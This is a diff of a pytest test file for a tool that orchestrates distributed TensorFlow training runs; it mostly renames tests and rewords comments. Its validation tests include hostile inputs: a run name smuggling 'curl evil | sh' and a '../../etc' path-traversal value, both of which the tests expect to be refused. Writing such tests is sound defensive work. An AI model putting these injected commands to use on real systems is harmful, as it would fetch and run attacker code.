@@ -86,7 +86,7 @@ def decided(
     tasks: Sequence[dict[str, Any]] = TASKS,
     plan: Mapping[str, Any] = PLAN,
 ) -> str | tuple[str, ...]:
-    """Return what is decided of the run r1, or why not, on hosts that are idle but for these."""
+    """Return the decision about the run r1, or the problems, on idle hosts except for these answers."""
     try:
         return decide("r1", plan, tasks, {**IDLE, **hosts}, folder)
     except RefusedError as refused:
@@ -100,9 +100,9 @@ def decided(
         ({}, Folder("stopped", "aaa"), "start"),
         ({"n2": found("worker0", run_id="r1", phase="failed")}, Folder("failed", "aaa"), "start"),
         ({"n2": TRAINS}, RUNNING, "attach"),
-        # A start that was interrupted before the chief is made whole.
+        # A start that was interrupted before the chief is completed.
         ({"n1": SERVES}, RUNNING, "start"),
-        # A run that ended while nobody watched is collected, also where its ps still serve.
+        # A run that ended unwatched is collected, also while its ps still serve.
         *(
             ({"n1": ps, "n2": found("worker0", run_id="r1", phase=phase)}, RUNNING, "collect")
             for ps in (found("ps0", run_id="r1"), SERVES)
@@ -111,14 +111,16 @@ def decided(
         ({"n2": found("worker0", run_id="r1", phase="training")}, RUNNING, "start"),
         ({"n2": found("worker0", run_id="r1", phase="finished")}, Folder("stopped", "aaa"), "start"),
         ({"n2": found("worker0", run_id="r0", phase="finished")}, RUNNING, "start"),
-        # All have the version of the past; a host that takes no part may have any.
+        # All tasks have an older version; a host without a task of the run may have any version.
         ({"n1": found("ps0", tensorflow=OLD), "n2": found("worker0", tensorflow=OLD)}, Folder(), "start"),
         ({"n3": found("worker7", tensorflow=OLD, deployed={})}, Folder(), "start"),
-        # A run that goes on is watched although a host was deployed anew.
+        # A run that is going on is attached to although a host was deployed again.
         ({"n1": {**SERVES, "tensorflow": OLD}, "n2": TRAINS}, RUNNING, "attach"),
     ],
 )
-def test_what_train_does(hosts: dict[str, dict[str, Any]], folder: Folder, action: str) -> None:
+def test_a_run_starts_or_is_attached_to_by_the_state_of_its_folder_and_hosts(
+    hosts: dict[str, dict[str, Any]], folder: Folder, action: str
+) -> None:
     assert decided(hosts, folder) == action
 
 
@@ -127,7 +129,7 @@ def test_a_host_without_a_task_in_the_run_need_not_be_deployed() -> None:
 
 
 @pytest.mark.parametrize(("alive", "action"), [(True, "attach"), (False, "start")])
-def test_the_chief_of_a_program_decides_whether_its_run_goes_on(alive: bool, action: str) -> None:
+def test_a_run_of_a_program_is_attached_to_only_while_its_chief_is_alive(alive: bool, action: str) -> None:
     hosts = {"n2": TRAINS, "n3": found("chief0", alive=alive, run_id="r1")}
     assert decided(hosts, RUNNING, [*TASKS, CHIEF]) == action
 
@@ -144,7 +146,7 @@ WITH_ANOTHER = of_began(("ps", 0, "n1"), ("worker", 0, "n2"), ("worker", 1, "n3"
 
 
 @pytest.mark.parametrize("state", ["stopped", "failed"])
-def test_a_run_goes_on_with_another_number_of_workers(state: FolderState) -> None:
+def test_a_stopped_or_failed_run_may_be_resumed_with_another_number_of_workers(state: FolderState) -> None:
     assert decided({}, Folder(state, "bbb", began_with=WITH_ANOTHER, resizes=True)) == "start"
 
 
@@ -157,15 +159,15 @@ def test_a_run_goes_on_with_another_number_of_workers(state: FolderState) -> Non
         (WITH_ANOTHER, False, "only an asynchronous or synchronous model, except partition, goes on"),
     ],
 )
-def test_a_run_keeps_its_ps_and_its_chief(
+def test_a_run_is_not_resumed_with_another_ps_or_another_host_of_its_chief(
     began_with: Sequence[Mapping[str, Any]], resizes: bool, why: str
 ) -> None:
     problems = decided({}, Folder("stopped", "bbb", began_with=began_with, resizes=resizes))
     assert f"; {why}" in " ".join(problems)
 
 
-def test_a_worker_that_stays_keeps_its_host() -> None:
-    """Collecting its records from another host would replace those of the part before."""
+def test_a_worker_that_remains_must_keep_its_host() -> None:
+    """Records collected from another host would replace those of the earlier part."""
     now = {**PLAN, "tasks": [*PLAN["tasks"], {**PLAN["tasks"][1], "index": 1, "host": "n1"}]}
     hosts = {host: {**answer, "deployed": now} for host, answer in IDLE.items()}
     folder = Folder("stopped", "bbb", began_with=WITH_ANOTHER, resizes=True)
@@ -180,7 +182,7 @@ def test_a_worker_that_stays_keeps_its_host() -> None:
 @pytest.mark.parametrize(
     "lead", [TRAINS, found("worker0", run_id="r1", phase="finished")], ids=["goes on", "not collected"]
 )
-def test_a_run_that_goes_on_is_not_resized(lead: dict[str, Any]) -> None:
+def test_a_run_that_is_still_going_on_is_not_resized(lead: dict[str, Any]) -> None:
     problems = decided({"n2": lead}, Folder("running", "bbb", began_with=WITH_ANOTHER, resizes=True))
     assert "it is still going on, or not collected" in " ".join(problems)
 
@@ -221,7 +223,7 @@ def test_a_run_that_goes_on_is_not_resized(lead: dict[str, Any]) -> None:
             "-e run_id=r0, or wait for its end. Where it is yours, or nobody needs it, end it with "
             "ansible-playbook stop.yml -e run_id=r0",
         ),
-        # A host may say that somebody else began it: all that were said are shown, none twice.
+        # Hosts may name different beginners: all are shown, and none twice.
         (
             {
                 "n1": found("ps0", alive=True, run_id="r0", begun=ANA),
@@ -239,7 +241,7 @@ def test_a_run_that_goes_on_is_not_resized(lead: dict[str, Any]) -> None:
             "a host names the run 'x; curl evil | sh'; expected lower case letters, digits and dashes, at "
             "most 63, with a letter or digit first (ps0 on n1)",
         ),
-        # Of a bare host nothing is said of its version.
+        # The version of a bare host is not mentioned.
         (
             {"n1": found("ps0", deployed={}, tensorflow="")},
             Folder(),
@@ -271,7 +273,7 @@ def test_a_run_that_goes_on_is_not_resized(lead: dict[str, Any]) -> None:
         ),
     ],
 )
-def test_a_run_that_cannot_start_is_told_why(
+def test_a_run_that_cannot_start_is_refused_with_the_reason(
     hosts: dict[str, dict[str, Any]], folder: Folder, problem: str
 ) -> None:
     assert decided(hosts, folder) == (problem,)
@@ -285,8 +287,8 @@ def test_tasks_with_gpus_need_a_tensorflow_with_cuda() -> None:
     assert decided(ended, RUNNING, plan=WITH_GPUS) == "collect"
 
 
-def test_a_run_starts_behind_the_fences_of_its_hosts() -> None:
-    """What a host says of its fence steers no terminal, and keeps nobody from watching what runs."""
+def test_a_run_does_not_start_on_hosts_without_their_fence() -> None:
+    """The text of a host is made printable, and a run that is going on can still be attached to."""
     gone = "the table inet psfleet is not there"
     hosts = {"n1": found("ps0", unfenced=gone), "n2": found("worker0", unfenced=gone)}
     told = "the ports of tasks are not fenced as deployed on {} ({}): run ansible-playbook deploy.yml"
@@ -300,7 +302,7 @@ def test_a_run_starts_behind_the_fences_of_its_hosts() -> None:
     assert decided(bare) == ("run deploy.yml first, on these hosts: n1",)
 
 
-def test_what_is_stopped_is_what_runs_whatever_the_inventory_says() -> None:
+def test_all_running_tasks_of_a_run_are_stopped_also_beside_the_inventory() -> None:
     hosts = {
         "n1": found("ps0", alive=True, run_id="r1"),
         "n2": found("worker3", alive=True, run_id="r1"),
@@ -313,17 +315,17 @@ def test_what_is_stopped_is_what_runs_whatever_the_inventory_says() -> None:
     assert [task["role"] for task in stopped.values()] == ["ps", "client", "client", "server"]
 
 
-def test_tasks_on_hosts_that_were_not_reached_are_named() -> None:
+def test_tasks_on_unreached_hosts_are_named_as_perhaps_alive() -> None:
     assert unstopped(TASKS, {"n1", "n2"}) == ""
     assert "perhaps still alive: worker0 on n2." in unstopped(TASKS, {"n1"})
 
 
-def test_the_run_to_stop_is_found() -> None:
+def test_the_run_that_is_going_on_is_found() -> None:
     assert going_on({"n1": found("ps0", alive=True, run_id="r1"), "n2": found("worker0")}) == "r1"
     assert going_on({"n1": found("ps0", run_id="r1")}) == ""
 
 
-def test_another_run_than_the_one_named_is_not_stopped() -> None:
+def test_only_the_named_run_is_stopped() -> None:
     hosts = {"n1": found("ps0", alive=True, run_id="r1")}
     assert going_on(hosts, "r1") == "r1"
     assert going_on({"n1": found("ps0", run_id="r1")}, "r1") == ""
@@ -336,18 +338,18 @@ def test_another_run_than_the_one_named_is_not_stopped() -> None:
 
 
 @pytest.mark.parametrize("run_id", ["../../etc", ""])
-def test_a_host_cannot_name_a_path(run_id: str) -> None:
+def test_an_invalid_run_id_of_a_host_is_refused(run_id: str) -> None:
     with pytest.raises(RefusedError, match=re.escape(repr(run_id))):
         going_on({"n1": found("ps0", alive=True, run_id=run_id)})
 
 
-def test_two_runs_are_not_stopped_as_one() -> None:
+def test_stopping_is_refused_while_two_runs_are_going_on() -> None:
     hosts = {"n1": found("ps0", alive=True, run_id="r1"), "n2": found("worker0", alive=True, run_id="r2")}
     with pytest.raises(RefusedError, match="r1; r2"):
         going_on(hosts)
 
 
-def test_a_task_that_was_left_out_or_gave_no_answer_is_refused_with_all_else() -> None:
+def test_tasks_without_an_answer_are_refused_with_all_other_problems() -> None:
     with pytest.raises(RefusedError, match="--limit leaves out worker0 on n2, or these hosts gave no answer"):
         decide("r1", PLAN, TASKS, {"n1": found("ps0")}, Folder())
     with pytest.raises(RefusedError) as refused:
@@ -408,13 +410,13 @@ BESIDE = (
         ),
     ],
 )
-def test_what_a_deployment_would_disturb(
+def test_a_deployment_is_refused_while_a_run_is_going_on_unless_it_is_allowed(
     hosts: dict[str, dict[str, Any]], allowed: bool, said: list[str]
 ) -> None:
     assert deploy_problems({**IDLE, **hosts}, PLAN, allowed=allowed) == said
 
 
-def test_who_else_deployed_last_is_said() -> None:
+def test_another_person_who_deployed_last_is_named() -> None:
     hosts = {
         "n1": found("ps0", deployed_by="bob@ws"),
         "n2": found("worker0", deployed_by="ana@desk"),
@@ -424,12 +426,12 @@ def test_who_else_deployed_last_is_said() -> None:
     assert deployed_by_others(hosts, "ana@desk") == ["n1, n4: deployed last by bob@ws"]
 
 
-def test_a_deployment_that_was_interrupted_is_none() -> None:
+def test_a_host_with_an_interrupted_deployment_must_be_deployed_first() -> None:
     interrupted = {"n2": found("worker0", environment="")}
     assert decided(interrupted) == ("run deploy.yml first, on these hosts: n2",)
 
 
-def test_a_program_that_was_named_since_is_deployed_first() -> None:
+def test_a_program_that_is_not_on_its_hosts_must_be_deployed_first() -> None:
     program = {"release": "abc", "file": "/opt/psfleet/programs/abc/main.py"}
     there = {"n1": found("ps0", programs=["0b0", "abc"]), "n2": found("worker0", programs=["abc"])}
     assert decide("r1", PLAN, TASKS, there, Folder(program=program)) == "start"
@@ -438,12 +440,12 @@ def test_a_program_that_was_named_since_is_deployed_first() -> None:
     assert refused.value.problems == (
         "the program /opt/psfleet/programs/abc/main.py is not on n2: run ansible-playbook deploy.yml",
     )
-    # What trains already did find it.
+    # A run that is already training has its program.
     going_on = {"n1": SERVES, "n2": TRAINS}
     assert decide("r1", PLAN, TASKS, going_on, replace(RUNNING, program=program)) == "attach"
 
 
-def test_what_tasks_lack_on_their_hosts_is_said_once_before_any_starts() -> None:
+def test_failed_checks_of_hosts_are_reported_once_before_any_task_starts() -> None:
     held = {"name": "ports", "task": "ps0", "found": "port 2222 of ps0 is held by nc", "remedy": "stop it"}
     data = {"name": "data", "task": "", "found": "there is no /data", "remedy": "run deploy.yml"}
     # No task of this run.
@@ -461,7 +463,7 @@ def test_what_tasks_lack_on_their_hosts_is_said_once_before_any_starts() -> None
     assert decide("r1", PLAN, TASKS, going_on, Folder("running", "aaa")) == "attach"
 
 
-def test_what_a_deployment_lacks_is_said_once_also_beside_a_run() -> None:
+def test_failed_checks_before_a_deployment_are_reported_once_also_during_a_run() -> None:
     metrics = {"name": "metrics", "task": "", "found": "there is no /metrics", "remedy": "make it"}
     said = "n1, n2: there is no /metrics; make it"
     idle = {"n1": found("ps0", checks=[metrics]), "n2": found("worker0", checks=[metrics])}
